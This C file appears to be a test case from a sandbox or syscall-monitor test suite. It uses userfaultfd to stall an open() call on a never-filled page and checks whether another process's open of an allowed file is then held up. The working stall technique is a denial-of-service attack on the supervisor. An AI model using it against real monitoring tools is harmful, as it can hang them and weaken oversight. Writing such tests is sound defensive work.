/* The path of an open lies in memory that userfaultfd fills, or never does: whoever reads it waits. Meanwhile another
 * process opens something, and is held up.
 *
 * seen: syscall
 * enforce: prevented
 * works: root
 */
#include "attack.h"

#include <linux/userfaultfd.h>

static int stalled_memory(char **memory) {
    int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
    struct uffdio_api api = {.api = UFFD_API};
    *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register range = {.range = {(uintptr_t)*memory, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
    return fd >= 0 && ioctl(fd, UFFDIO_API, &api) == 0 && ioctl(fd, UFFDIO_REGISTER, &range) == 0 ? fd : -1;
}

static char *memory;

static void *opens(void *unused) {
    open(memory, O_RDONLY | O_CLOEXEC);
    return unused;
}

void attack(void) {
    if (stalled_memory(&memory) < 0)
        return;
    beside(opens, NULL);
    nap(20);
    pid_t pid = fork();
    if (pid == 0) {
        close(open(given("ALLOWED_SECRET"), O_RDONLY | O_CLOEXEC));
        _exit(0);
    }
    int status;
    nap(1000);
    if (waitpid(pid, &status, WNOHANG) == 0) {
        won();
    }
    _exit(0);
}
